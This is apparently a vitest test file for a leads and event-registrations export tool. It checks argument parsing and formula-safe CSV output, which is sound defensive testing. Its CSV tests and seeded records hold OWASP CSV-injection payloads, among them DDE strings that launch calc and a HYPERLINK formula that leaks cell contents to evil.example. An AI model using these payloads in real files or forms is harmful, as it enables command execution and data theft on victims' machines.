import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  budgetLabel,
  serviceOptionLabel,
  validateContactForm,
} from "~/features/contact/contact-schema";
import type { AppDatabase } from "../server/db/database";
import { findLeads, saveLead } from "../server/leads/lead-store";
import { storeRegistration } from "../server/registrations/registration-store";
import { findEvent, toEventFacts } from "~/features/events/events.server";
import { validEnquiry } from "../tests/support/contact-posts";
import {
  createTestDatabase,
  testDatabaseKinds,
  type TestDatabase,
} from "../tests/support/test-databases";
import { leadsToCsv, parseLeadsArgs, runLeadsCommand, UsageError } from "./leads-command";
import { csvCell } from "./lib/text-tables";

/** Where each lead or registration came from: the same columns in every export. */
const sourceHeader =
  '"landingPage","referrerHost","utmSource","utmMedium","utmCampaign","formPage"';

describe("parseLeadsArgs", () => {
  it("reads list and export with their options", () => {
    expect(parseLeadsArgs(["list"])).toEqual({ command: "list", since: undefined });
    expect(parseLeadsArgs(["export", "--format", "csv", "--since", "2026-11-01"])).toEqual({
      command: "export",
      format: "csv",
      since: new Date("2026-11-01T00:00:00Z"),
    });
    expect(
      parseLeadsArgs(["export", "--format=json", "--since=2026-11-01T09:30:00+01:00"]),
    ).toEqual({ command: "export", format: "json", since: new Date("2026-11-01T08:30:00Z") });
  });

  it("explains what is wrong", () => {
    for (const [argv, message] of [
      [[], /Name a command/],
      [["delete"], /unknown command 'delete'/],
      [["registrations"], /registrations needs --event/],
      [
        ["registrations", "--event", "Not A Slug"],
        /--event <slug>' argument 'Not A Slug' is invalid/,
      ],
      [["registrations", "--event", "x", "--format", "xml"], /Allowed choices are csv, json/],
      [["registrations", "--event", "x", "--since", "2026-11-01"], /unknown option '--since'/],
      [["list", "--event", "x"], /unknown option '--event'/],
      [["cancel"], /required option '--id <id>'/],
      [["registrations", "--all-events"], /needs --format csv or --format json/],
      [["list", "--all-events"], /unknown option '--all-events'/],
      [["export"], /required option '--format <format>'/],
      [["export", "--format", "xml"], /Allowed choices are csv, json/],
      [["list", "--since", "last week"], /--since must be a date/],
      [["list", "--since", "2026-13-45"], /--since must be a date/],
      [["list", "--limit", "3"], /unknown option '--limit'/],
    ] as const) {
      expect(() => parseLeadsArgs(argv), argv.join(" ")).toThrow(UsageError);
      expect(() => parseLeadsArgs(argv), argv.join(" ")).toThrow(message);
    }
  });
});

describe("parseLeadsArgs for report, person and erase", () => {
  it("reads --since as days back, and --email", () => {
    const before = Date.now();
    const report = parseLeadsArgs(["report", "--since", "30d"]);
    expect(report.command).toBe("report");
    const since = (report as { since: Date }).since.getTime();
    expect(since).toBeGreaterThanOrEqual(before - 30 * 86_400_000);
    expect(since).toBeLessThanOrEqual(Date.now() - 30 * 86_400_000);
    expect(parseLeadsArgs(["erase", "--email", "a@b.example"])).toEqual({
      command: "erase",
      email: "a@b.example",
    });
    expect(parseLeadsArgs(["person", "--email=a@b.example"])).toEqual({
      command: "person",
      email: "a@b.example",
    });
  });

  it("explains what is wrong", () => {
    for (const [argv, message] of [
      [["erase"], /required option '--email <address>'/],
      [["person", "--email", "not an address"], /Give an e-mail address/],
      [["erase", "--email", "a@b.example", "--since", "30d"], /unknown option '--since'/],
      [["list", "--email", "a@b.example"], /unknown option '--email'/],
      [["report", "--format", "csv"], /unknown option '--format'/],
    ] as const) {
      expect(() => parseLeadsArgs(argv), argv.join(" ")).toThrow(message);
    }
  });
});

describe("parseLeadsArgs for registrations", () => {
  it("reads the event and the format", () => {
    expect(parseLeadsArgs(["registrations", "--event", "my-event"])).toEqual({
      command: "registrations",
      event: "my-event",
      format: undefined,
    });
    expect(parseLeadsArgs(["registrations", "--event=my-event", "--format=csv"])).toEqual({
      command: "registrations",
      event: "my-event",
      format: "csv",
    });
  });
});

describe("CSV cells", () => {
  it("are all quoted, with quotes doubled", () => {
    expect(csvCell("Northwind Logistics")).toBe(`"Northwind Logistics"`);
    expect(csvCell("Smith, Jones & Co")).toBe(`"Smith, Jones & Co"`);
    expect(csvCell(`The "big" one`)).toBe(`"The ""big"" one"`);
    expect(csvCell("line one\nline two")).toBe(`"line one\nline two"`);
    expect(csvCell(null)).toBe(`""`);
  });

  it("defuse formulas: a cell starting with =, +, -, @, tab or CR gets a leading apostrophe", () => {
    expect(csvCell('=HYPERLINK("http://evil.example","Click")')).toBe(
      `"'=HYPERLINK(""http://evil.example"",""Click"")"`,
    );
    expect(csvCell("+44 20 7946 0321")).toBe(`"'+44 20 7946 0321"`);
    expect(csvCell("-2+3")).toBe(`"'-2+3"`);
    expect(csvCell("@SUM(A1:A2)")).toBe(`"'@SUM(A1:A2)"`);
    expect(csvCell("\t=1+1")).toBe(`"'\t'=1+1"`);
    expect(csvCell("\r=1+1")).toBe(`"'\r'=1+1"`);
    expect(csvCell(" =1+1")).toBe(`"' =1+1"`);
  });

  it("defuse the full-width and small forms of the formula characters", () => {
    for (const start of [
      "\uFF1D",
      "\uFF0B",
      "\uFF0D",
      "\uFF20",
      "\uFE66",
      "\uFE62",
      "\uFE63",
      "\uFE6B",
    ]) {
      expect(csvCell(`${start}1+2`), start).toBe(`"'${start}1+2"`);
    }
  });

  it("defuse a formula that starts after a separator inside the cell", () => {
    expect(csvCell("Bob;=1+2;@SUM(A1)")).toBe(`"Bob;'=1+2;'@SUM(A1)"`);
    expect(csvCell("Bob,+1")).toBe(`"Bob,'+1"`);
    expect(csvCell("Bob\t-1")).toBe(`"Bob\t'-1"`);
    expect(csvCell("first line\n=1+2")).toBe(`"first line\n'=1+2"`);
    expect(csvCell("Bob; =1+2")).toBe(`"Bob;' =1+2"`);
    expect(csvCell(`Bob,"=1+2"`)).toBe(`"Bob,'""=1+2"""`);
  });

  it("show text direction overrides escaped", () => {
    expect(csvCell("Invoice \u202Egpj.exe")).toBe(`"Invoice <U+202E>gpj.exe"`);
    expect(csvCell("\u2066=1+2\u2069")).toBe(`"<U+2066>=1+2<U+2069>"`);
  });

  // The payloads of OWASP's "CSV Injection" page and its variants: however a
  // spreadsheet splits the file (comma, semicolon or tab; honouring quotes or
  // not), no piece it makes starts a formula.
  const owaspPayloads = [
    "=1+2",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "Bob;=1+2;@SUM(A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+thespanishinquisition(\\)",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?leak="&A1&A2,"Error: please click for further information")',
    "\uFF1D1+2",
    "a\t=1+2",
    "a\r\n@SUM(1)",
    "a,  -1",
    'a,"=1+2"',
    "a;'@SUM(1)",
  ];
  it("leave no formula start in any piece of the row, whatever the separator", () => {
    const row = owaspPayloads.map(csvCell).join(",");
    const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B]/u;
    for (const separator of [",", ";", "\t", "\n"]) {
      for (const piece of row.split(separator)) {
        // An importer that ignores quotes keeps them, or drops them: either way the apostrophe leads.
        const trimmed = piece.replace(/^[" \u00A0\r\n]+/u, "");
        if (trimmed.startsWith("'")) continue;
        expect(trimmed, `a piece after splitting on ${JSON.stringify(separator)}`).not.toMatch(
          formulaStart,
        );
      }
    }
    // A reader that honours the quotes gets each value back, apostrophes added.
    expect(parseCsvRow(row)).toEqual(owaspPayloads.map((payload) => csvCellValue(payload)));
  });
});

/** The value a spreadsheet shows for a cell: the text with the defusing apostrophes. */
function csvCellValue(value: string): string {
  return csvCell(value).slice(1, -1).replaceAll('""', '"');
}

/** RFC 4180: one row of quoted cells. */
function parseCsvRow(row: string): string[] {
  const cells: string[] = [];
  const pattern = /"((?:[^"]|"")*)"(?:,|$)/gy;
  for (const match of row.matchAll(pattern)) cells.push(match[1]!.replaceAll('""', '"'));
  return cells;
}

function enquiry(overrides: Record<string, string> = {}) {
  const data = new FormData();
  for (const [key, value] of Object.entries({ ...validEnquiry, ...overrides }))
    data.set(key, value);
  const result = validateContactForm(data);
  if (!result.success) throw new Error(JSON.stringify(result.errors));
  return result.enquiry;
}

describe.each(testDatabaseKinds)("the leads command on %s", (kind) => {
  let database: TestDatabase;
  let db: AppDatabase;
  beforeEach(async () => {
    database = await createTestDatabase(kind);
    db = await database.open();
    await saveLead(db, enquiry({ name: "Early Bird" }), new Date("2026-10-30T12:00:00Z"));
    await saveLead(
      db,
      enquiry({
        name: "=cmd|' /C calc'!A0",
        company: "@Acme, Inc.",
        message: "-1 risk to the launch date\nline two",
      }),
      new Date("2026-11-02T08:15:00Z"),
    );
  });
  afterEach(() => database.drop());

  async function run(argv: string[]): Promise<string> {
    let output = "";
    await runLeadsCommand(parseLeadsArgs(argv), db, (text) => (output += text));
    return output;
  }

  it("lists the leads, oldest first, with their notification state", async () => {
    const lines = (await run(["list"])).split("\n");
    expect(lines[0]).toMatch(/^Received \(UTC\)\s+Name\s+Company\s+E-mail\s+Service\s+Budget/);
    expect(lines[2]).toContain("2026-10-30 12:00  Early Bird");
    expect(lines[3]).toContain("2026-11-02 08:15  =cmd|' /C calc'!A0");
    expect(lines[2]).toContain(serviceOptionLabel(validEnquiry.service));
    expect(lines[2]).toMatch(/waiting$/);
    expect(lines).toContain("2 leads");
  });

  it("shows text direction overrides escaped in the table", async () => {
    await saveLead(
      db,
      enquiry({ name: "Ana \u202Eordnas", company: "\u2067Acme\u2069 Ltd" }),
      new Date("2026-11-03T08:00:00Z"),
    );
    const output = await run(["list", "--since", "2026-11-03"]);
    expect(output).toContain("Ana <U+202E>ordnas");
    expect(output).toContain("<U+2067>Acme<U+2069> Ltd");
    expect(output).not.toMatch(/\p{Bidi_Control}/u);
  });

  it("lists only the leads since a date", async () => {
    const output = await run(["list", "--since", "2026-11-01"]);
    expect(output).not.toContain("Early Bird");
    expect(output).toContain("1 lead\n");
    expect(await run(["list", "--since", "2027-01-01"])).toBe(
      "No leads since 2027-01-01T00:00:00.000Z.\n",
    );
  });

  it("exports JSON with every field", async () => {
    const leads = JSON.parse(await run(["export", "--format", "json", "--since", "2026-11-01"]));
    expect(leads).toEqual([
      expect.objectContaining({
        receivedAt: "2026-11-02T08:15:00.000Z",
        name: "=cmd|' /C calc'!A0",
        company: "@Acme, Inc.",
        email: validEnquiry.email,
        phone: validEnquiry.phone,
        serviceId: validEnquiry.service,
        service: serviceOptionLabel(validEnquiry.service),
        budgetId: validEnquiry.budget,
        budget: budgetLabel(validEnquiry.budget),
        message: "-1 risk to the launch date\nline two",
        notifiedAt: null,
      }),
    ]);
  });

  it("exports CSV that a spreadsheet opens without running anything", async () => {
    const csv = await run(["export", "--format", "csv"]);
    expect(
      csv.startsWith(
        `\uFEFF"receivedAt","name","email","company","phone","service","budget","message","notifiedAt",${sourceHeader},"id"\r\n`,
      ),
    ).toBe(true);
    expect(csv).toBe(leadsToCsv(await findLeads(db)));
    const secondRow = csv.split("\r\n")[2]!;
    expect(secondRow).toContain(`"'=cmd|' /C calc'!A0",`);
    expect(secondRow).toContain(`"'@Acme, Inc."`);
    expect(secondRow).toContain(`"'+351 21 000 0000"`);
    expect(secondRow).toContain(`"'-1 risk to the launch date\nline two"`);
  });
});

describe.each(testDatabaseKinds)("the registrations command on %s", (kind) => {
  const roundTable = toEventFacts(findEvent("reconciliation-round-table-london")!);
  let database: TestDatabase;
  let db: AppDatabase;
  beforeEach(async () => {
    database = await createTestDatabase(kind);
    db = await database.open();
    const full = { ...roundTable, capacity: 2 };
    const at = (minute: number) => new Date(Date.UTC(2027, 0, 10, 9, minute));
    const person = (name: string, email: string, answers: Record<string, string> = {}) => ({
      name,
      email,
      company: "@Acme, Inc.",
      jobTitle: null,
      answers,
    });
    await storeRegistration(db, full, person("First Person", "first@a.example"), at(0));
    await storeRegistration(
      db,
      full,
      person('=HYPERLINK("http://evil.example")', "second@a.example", {
        "dietary-needs": "-1 nuts",
      }),
      at(1),
    );
    await storeRegistration(db, full, person("Third Person", "third@a.example"), at(2));
    await storeRegistration(db, full, person("Fourth Person", "fourth@a.example"), at(3));
  });
  afterEach(() => database.drop());

  async function run(argv: string[]): Promise<string> {
    let output = "";
    await runLeadsCommand(parseLeadsArgs(argv), db, (text) => (output += text));
    return output;
  }

  it("lists the confirmed places, then the waiting list, in order", async () => {
    const lines = (await run(["registrations", "--event", roundTable.slug])).split("\n");
    expect(lines[0]).toBe(roundTable.title);
    expect(lines[2]).toMatch(
      /^Status\s+#\s+Registered \(UTC\)\s+Name\s+Company\s+E-mail\s+Job title\s+Dietary needs or allergies$/,
    );
    expect(lines.slice(4, 8).map((line) => line.split(/\s{2,}/).slice(0, 4))).toEqual([
      ["confirmed", "1", "2027-01-10 09:00", "First Person"],
      ["confirmed", "2", "2027-01-10 09:01", '=HYPERLINK("http://evil.example…'],
      ["waiting", "1", "2027-01-10 09:02", "Third Person"],
      ["waiting", "2", "2027-01-10 09:03", "Fourth Person"],
    ]);
    expect(lines).toContain("2 of 2 confirmed, 2 waiting");
    expect(await run(["registrations", "--event", "no-such-event"])).toBe(
      "No registrations for no-such-event.\n",
    );
  });

  it("exports JSON and formula-safe CSV", async () => {
    const json = JSON.parse(
      await run(["registrations", "--event", roundTable.slug, "--format", "json"]),
    );
    expect(json.map((row: { status: string; place: number }) => [row.status, row.place])).toEqual([
      ["confirmed", 1],
      ["confirmed", 2],
      ["waiting", 1],
      ["waiting", 2],
    ]);
    expect(json[1]).toMatchObject({
      event: roundTable.slug,
      email: "second@a.example",
      registeredAt: "2027-01-10T09:01:00.000Z",
      consentedAt: "2027-01-10T09:01:00.000Z",
      cancelledAt: null,
      answers: { "dietary-needs": "-1 nuts" },
    });

    const csv = await run(["registrations", "--event", roundTable.slug, "--format", "csv"]);
    const rows = csv.split("\r\n");
    expect(rows[0]).toBe(
      `\uFEFF"event","status","place","registeredAt","consentedAt","confirmedAt","cancelledAt","name","email","company","jobTitle","Dietary needs or allergies",${sourceHeader},"id"`,
    );
    // Every cell quoted, a formula start defused (the enquiries export's rules).
    expect(rows[2]).toContain(`"'=HYPERLINK(""http://evil.example"")"`);
    expect(rows[2]).toContain(`"'@Acme, Inc."`);
    expect(rows[2]).toContain(`,"'-1 nuts",`);
    expect(rows).toHaveLength(6);
  });

  it("cancels for staff: the place goes to the first waiting, and the exports keep the cancellation", async () => {
    const [first] = await db
      .selectFrom("registrations")
      .select("id")
      .where("email", "=", "first@a.example")
      .execute();
    expect(parseLeadsArgs(["cancel", "--id", first!.id])).toEqual({
      command: "cancel",
      id: first!.id,
    });
    expect(await run(["cancel", "--id", first!.id])).toContain("Promoted from the waiting list: 1");
    expect(await run(["cancel", "--id", first!.id])).toContain("was already cancelled");

    const json = JSON.parse(
      await run(["registrations", "--event", roundTable.slug, "--format", "json"]),
    ) as { email: string; status: string; place: number | null; cancelledAt: string | null }[];
    // Confirmed places in the order they were taken (the promotion's is today's
    // clock, the others the test's 2027 one), then the waiting list, then cancellations.
    expect(json.map((row) => [row.status, row.place])).toEqual([
      ["confirmed", 1],
      ["confirmed", 2],
      ["waiting", 1],
      ["cancelled", null],
    ]);
    expect(new Set(json.slice(0, 2).map((row) => row.email))).toEqual(
      new Set(["second@a.example", "third@a.example"]),
    );
    expect(json.slice(2).map((row) => row.email)).toEqual(["fourth@a.example", "first@a.example"]);
    expect(json[3]!.cancelledAt).not.toBeNull();
    const kinds = await db
      .selectFrom("outbox")
      .select("kind")
      .where("registration_id", "=", first!.id)
      .execute();
    expect(kinds.map((row) => row.kind)).toContain("registration-cancelled");
    expect(await run(["registrations", "--event", roundTable.slug])).toContain(
      "2 of 2 confirmed, 1 waiting, 1 cancelled (in the exports)",
    );

    const everyEvent = await run(["registrations", "--all-events", "--format", "csv"]);
    expect(everyEvent.split("\r\n")[0]).toContain(`"jobTitle","answers",`);
    expect(everyEvent).toContain(`"{""dietary-needs"":""-1 nuts""}"`);
  });
});
